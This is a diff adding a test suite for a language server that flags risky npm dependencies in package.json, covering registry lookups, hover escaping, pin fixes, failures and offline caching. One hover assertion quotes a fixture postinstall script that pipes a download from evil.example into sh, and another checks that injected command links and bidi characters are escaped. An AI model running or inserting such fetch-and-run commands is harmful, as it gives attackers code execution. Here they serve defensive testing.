@@ -1,0 +1,244 @@
+/**
+ * The registry pass of the real language server (dist/server.js over stdio) against the local
+ * registry: offline findings first, registry findings merged after; stale versions and closed
+ * documents never published; hovers with registry facts (safely escaped); the pin fix without a
+ * lockfile; failures, the offline setting with a disk cache, and untrusted workspaces.
+ */
+import { strict as assert } from 'node:assert';
+import { mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { CodeAction, Diagnostic, Hover, MarkupContent } from 'vscode-languageserver-protocol';
+import { FixtureServer, faults, sleep } from '../helpers/fixtureServer';
+import { fileUri, TestLspClient } from '../helpers/lspClient';
+import { EMPTY_HOME } from '../helpers/registryScope';
+
+interface Published {
+  uri: string;
+  at: number;
+  diagnostics: Diagnostic[];
+}
+
+function codes(diags: Diagnostic[]): string[] {
+  return diags.map((d) => String(d.code)).sort();
+}
+
+function versionOf(d: Diagnostic): number | undefined {
+  return (d.data as { version?: number } | undefined)?.version;
+}
+
+/** Starts the server against the local registry, recording every publish. */
+async function startAgainst(server: FixtureServer, options: { settings?: Record<string, unknown>; storagePath?: string; trusted?: boolean } = {}) {
+  const client = await TestLspClient.start({
+    settings: { registries: server.registrySettings, ...options.settings },
+    initializationOptions: { storagePath: options.storagePath, trusted: options.trusted },
+    env: { HOME: EMPTY_HOME, USERPROFILE: EMPTY_HOME, NPM_CONFIG_USERCONFIG: join(EMPTY_HOME, '.npmrc') },
+  });
+  const published: Published[] = [];
+  const set = client.diagnostics.set.bind(client.diagnostics);
+  client.diagnostics.set = (uri: string, diagnostics: Diagnostic[]) => {
+    published.push({ uri, at: Date.now(), diagnostics });
+    return set(uri, diagnostics);
+  };
+  return { client, published };
+}
+
+async function hoverText(client: TestLspClient, uri: string, line: number, character: number): Promise<string> {
+  const hover = await client.request<Hover | null>('textDocument/hover', { textDocument: { uri }, position: { line, character } });
+  return hover ? (hover.contents as MarkupContent).value : '';
+}
+
+describe('language server: registry findings', function () {
+  this.timeout(30_000);
+  let server: FixtureServer;
+  let dir: string;
+  let n = 0;
+  const nextUri = () => fileUri(join(dir, `p${++n}`, 'package.json'));
+
+  before(async () => {
+    server = await FixtureServer.start();
+    dir = mkdtempSync(join(tmpdir(), 'mg-lsp-reg-'));
+  });
+  afterEach(() => {
+    server.reset();
+    server.latencyMs = 0;
+  });
+  after(async () => server.close());
+
+  it('publishes offline findings at once, then merges registry findings into the same diagnostics', async () => {
+    const { client, published } = await startAgainst(server);
+    try {
+      // The registry answers only once the offline findings are out: they cannot have waited for it.
+      let answer!: () => void;
+      const offlinePublished = new Promise<void>((resolve) => (answer = resolve));
+      for (const name of ['express', 'setup-hook']) {
+        server.route('GET', `/npm/${name}`, async (req, res) => {
+          await offlinePublished;
+          server.serveFixture(req, res);
+        });
+      }
+      const uri = nextUri();
+      await client.open(uri, 'json', '{\n  "dependencies": {\n    "express": "^4.18.2",\n    "setup-hook": "2.0.0"\n  }\n}\n');
+      const first = await client.waitForDiagnostics(uri, (d) => d.length > 0);
+      assert.deepEqual(codes(first), ['unpinned-version']);
+      assert.equal(published.filter((p) => p.uri === uri).length, 1);
+      answer();
+      const merged = await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'install-script'));
+      assert.deepEqual(codes(merged), ['install-script', 'unpinned-version']);
+      const script = merged.find((d) => d.code === 'install-script')!;
+      assert.match(String(script.message), /setup-hook 2\.0\.0 runs "postinstall" when installed: `node install\.js`/);
+      assert.deepEqual(script.range, { start: { line: 3, character: 5 }, end: { line: 3, character: 15 } });
+      // The next edit's first publish already has the facts known from memory: no flicker.
+      await client.change(uri, '{\n  "dependencies": {\n    "express": "^4.18.2",\n    "setup-hook": "2.0.0"\n  }\n}\n\n', 2);
+      await client.waitForDiagnostics(uri, (d) => d.some((x) => versionOf(x) === 2));
+      const firstOfV2 = published.find((p) => p.uri === uri && p.diagnostics.some((x) => versionOf(x) === 2));
+      assert.deepEqual(codes(firstOfV2?.diagnostics ?? []), ['install-script', 'unpinned-version']);
+    } finally {
+      await client.stop();
+    }
+  });
+
+  it('never publishes a registry result for an older version or a closed document', async () => {
+    const { client, published } = await startAgainst(server);
+    try {
+      server.latencyMs = 250;
+      const uri = nextUri();
+      await client.open(uri, 'json', '{"dependencies": {"setup-hook": "2.0.0"}}');
+      await client.waitForDiagnostics(uri, () => true);
+      await client.change(uri, '{"dependencies": {"old-lib": "1.0.0"}}', 2);
+      await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'deprecated'));
+      const closed = nextUri();
+      await client.open(closed, 'json', '{"dependencies": {"binding-native": "3.0.0"}}');
+      await client.waitForDiagnostics(closed, () => true);
+      await client.close(closed);
+      await sleep(800);
+      const afterChange = published.filter((p) => p.uri === uri).slice(published.filter((p) => p.uri === uri).findIndex((p) => p.diagnostics.some((d) => versionOf(d) === 2) || p.diagnostics.length === 0) + 1);
+      assert.ok(afterChange.every((p) => p.diagnostics.every((d) => versionOf(d) === 2)), JSON.stringify(afterChange));
+      assert.ok(!published.some((p) => p.uri === uri && p.diagnostics.some((d) => d.code === 'install-script')), 'the v1 registry finding was never published');
+      const lastForClosed = published.filter((p) => p.uri === closed).pop();
+      assert.deepEqual(lastForClosed?.diagnostics, []);
+    } finally {
+      await client.stop();
+    }
+  });
+
+  it('shows registry facts in the hover, with registry text escaped', async () => {
+    const { client } = await startAgainst(server);
+    try {
+      const uri = nextUri();
+      await client.open(uri, 'json', '{\n  "dependencies": {\n    "express": "^4.18.2",\n    "hostile-text": "1.0.0",\n    "setup-hook": "2.1.0"\n  }\n}\n');
+      await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'deprecated'));
+      const express = await hoverText(client, uri, 2, 6);
+      assert.match(express, /\*\*Registry\*\* · 127\.0\.0\.1:\d+/);
+      assert.match(express, /Fast, unopinionated, minimalist web framework/);
+      assert.match(express, /License: `MIT` · Latest: `4\.21\.2`/);
+      assert.match(express, /Resolves to `4\.21\.2`, published \d{4}-\d\d-\d\d \(30 days ago\), by `wesleytodd`\./);
+      assert.match(express, /\[Source repository\]\(https:\/\/github\.com\/expressjs\/express\)/);
+      assert.match(express, /No known advisories for `4\.21\.2`/);
+      const hook = await hoverText(client, uri, 4, 6);
+      assert.match(hook, /```\npostinstall: curl -s https:\/\/evil\.example\/x\.sh \| sh\n```/);
+      const hostile = await hoverText(client, uri, 3, 6);
+      // What Markdown renders (outside code blocks and code spans) has no live link, HTML or bidi text.
+      const rendered = hostile.replace(/```[\s\S]*?```/g, '').replace(/`[^`]*`/g, '');
+      assert.doesNotMatch(rendered, /(^|[^\\])\]\(command:/);
+      assert.doesNotMatch(rendered, /(^|[^\\])<(script|img|b)/);
+      assert.doesNotMatch(hostile, /[\u202a-\u202e\u0007]/);
+      assert.doesNotMatch(hostile, /javascript:/);
+      assert.doesNotMatch(hostile, /```\n[^`]*```[^\n]/, 'a fence inside registry text cannot close the code block');
+      assert.match(hostile, /\\\*\\\*bold\\\*\\\* \\\[link\\\]\\\(command:workbench\.action\.openSettings\\\)/);
+    } finally {
+      await client.stop();
+    }
+  });
+
+  it('offers "Pin NAME to VERSION" without a lockfile, and "Pin all" covers it', async () => {
+    const { client } = await startAgainst(server);
+    try {
+      const uri = nextUri();
+      await client.open(uri, 'json', '{\n  "dependencies": {\n    "express": "^4.18.2",\n    "lodash": "*"\n  }\n}\n');
+      const diags = await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'unpinned-version') && d.some((x) => x.code === 'vulnerable') === false && d.length >= 2);
+      const express = diags.find((d) => d.code === 'unpinned-version' && d.range.start.line === 2)!;
+      await sleep(300);
+      const actions = await client.request<CodeAction[]>('textDocument/codeAction', { textDocument: { uri }, range: express.range, context: { diagnostics: [express] } });
+      const pin = actions.find((a) => a.kind === 'quickfix' && a.title.startsWith('Pin express'));
+      assert.equal(pin?.title, `Pin express to 4.21.2 (resolves on ${new URL(server.base).host} today)`);
+      const all = await client.request<CodeAction[]>('textDocument/codeAction', { textDocument: { uri }, range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, context: { diagnostics: [], only: ['source'] } });
+      const pinAll = all.find((a) => a.title.startsWith('Pin all dependencies'));
+      assert.deepEqual(pinAll?.edit?.changes?.[uri].map((e) => e.newText).sort(), ['4.17.21', '4.21.2']);
+    } finally {
+      await client.stop();
+    }
+  });
+
+  it('degrades a failing registry to "not checked" with the reason, and keeps serving', async () => {
+    const { client } = await startAgainst(server);
+    try {
+      server.route('GET', '/npm/express', faults.status(500));
+      server.route('GET', '/npm/lodash', faults.garbage());
+      const uri = nextUri();
+      await client.open(uri, 'json', '{\n  "dependencies": {\n    "express": "^4.18.2",\n    "lodash": "^4.0.0",\n    "old-lib": "1.0.0"\n  }\n}\n');
+      const diags = await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'deprecated'));
+      assert.deepEqual(codes(diags), ['deprecated', 'unpinned-version', 'unpinned-version']);
+      await sleep(300);
+      assert.match(await hoverText(client, uri, 2, 6), /Registry: not checked — 127\.0\.0\.1:\d+ answered HTTP 500\./);
+      assert.match(await hoverText(client, uri, 3, 6), /Registry: not checked — .*did not answer with an npm packument for lodash/);
+    } finally {
+      await client.stop();
+    }
+  });
+
+  it('keeps at most maxConcurrentRequests requests in flight', async () => {
+    const { client } = await startAgainst(server, { settings: { maxConcurrentRequests: 2 } });
+    try {
+      server.latencyMs = 60;
+      const names = ['express', 'lodash', 'old-lib', 'setup-hook', 'binding-native', 'hijacked-lib', 'trusted-lib', 'todo-plz'];
+      const uri = nextUri();
+      await client.open(uri, 'json', JSON.stringify({ dependencies: Object.fromEntries(names.map((x) => [x, '*'])) }));
+      await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'malicious'));
+      assert.equal(server.peakInFlight, 2);
+    } finally {
+      await client.stop();
+    }
+  });
+
+  it('offline, uses the last cached answers from the storage folder and says so, making no request', async () => {
+    const storagePath = mkdtempSync(join(tmpdir(), 'mg-storage-'));
+    const text = '{\n  "dependencies": {\n    "old-lib": "1.0.0"\n  }\n}\n';
+    const online = await startAgainst(server, { storagePath });
+    try {
+      const uri = nextUri();
+      await online.client.open(uri, 'json', text);
+      await online.client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'deprecated'));
+      await sleep(200);
+    } finally {
+      await online.client.stop();
+    }
+    server.reset();
+    const offline = await startAgainst(server, { storagePath, settings: { offline: true } });
+    try {
+      const uri = nextUri();
+      await offline.client.open(uri, 'json', text);
+      const diags = await offline.client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'deprecated'));
+      assert.match(String(diags.find((d) => d.code === 'deprecated')!.message), /\(cached registry answer from \d{4}-\d\d-\d\d\)$/);
+      assert.match(await hoverText(offline.client, uri, 2, 6), /\*\*Registry\*\* · 127\.0\.0\.1:\d+ · cached answer from \d{4}-\d\d-\d\d/);
+      assert.equal(server.count(), 0);
+    } finally {
+      await offline.client.stop();
+    }
+  });
+
+  it('in an untrusted workspace runs offline checks only: no registry request at all', async () => {
+    const { client } = await startAgainst(server, { trusted: false });
+    try {
+      const uri = nextUri();
+      await client.open(uri, 'json', '{\n  "dependencies": {\n    "old-lib": "^1.0.0"\n  }\n}\n');
+      const diags = await client.waitForDiagnostics(uri, (d) => d.length > 0);
+      await sleep(500);
+      assert.deepEqual(codes(client.diagnostics.get(uri) ?? diags), ['unpinned-version']);
+      assert.doesNotMatch(await hoverText(client, uri, 2, 6), /Registry/);
+      assert.equal(server.count(), 0);
+    } finally {
+      await client.stop();
+    }
+  });
+});
